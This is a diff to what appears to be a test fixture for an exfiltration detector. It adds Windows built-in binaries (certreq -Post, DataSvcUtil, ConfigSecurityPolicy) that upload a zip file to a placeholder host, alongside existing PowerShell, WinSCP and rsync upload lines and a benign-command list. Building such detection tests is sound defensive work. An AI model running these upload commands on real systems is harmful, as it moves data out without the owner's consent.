@@ -124,6 +124,9 @@ VARIANTS = [
     (SHELL, "powershell -c (new-object net.webclient).uploadfile('https://x.example/u','d.zip')"),
     (SHELL, "powershell -c Send-MailMessage -To a@b.example -SmtpServer s -Port:587 -UseSSL"),
     (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\Program Files (x86)\WinSCP\winscp.com" /command "put d.zip" exit'),
+    (r"C:\Windows\System32\certreq.exe", r"CertReq -Post -config https://x.example/ C:\d.zip o.txt"),
+    (r"C:\Windows\Microsoft.NET\Framework64\v3.5\DataSvcUtil.exe", r"DataSvcUtil /out:C:\d.zip /uri:https://x.example/u"),
+    (r"C:\Program Files\Windows Defender\ConfigSecurityPolicy.exe", r"ConfigSecurityPolicy.exe C:\d.zip https://x.example/u"),
     (r"C:\a\aws.exe", r'"C:\Program Files\Amazon\AWSCLIV2\aws.exe" s3 sync "C:\my data" s3://b/'), ("/usr/bin/rsync", "rsync -az /data rsync://h.example/in"),
 ]
 
@@ -161,6 +164,7 @@ BENIGN = [
     ("/opt/env/bin/python", "python /opt/bin/client.py imap_read imap.partner.example 993"), ("/opt/env/bin/python", "python call.py turn.meet.example 3478 8 120"),
     (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"), ("/usr/bin/aws", "aws s3 cp s3://bucket/x ."), ("/usr/bin/bash", "bash sync.sh"),
     (SHELL, "powershell -c Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"), ("/usr/bin/python3", "python3 -m pip install boto3"),
+    (r"C:\Windows\System32\certreq.exe", r"certreq -new request.inf request.req"),
 ]
 
 
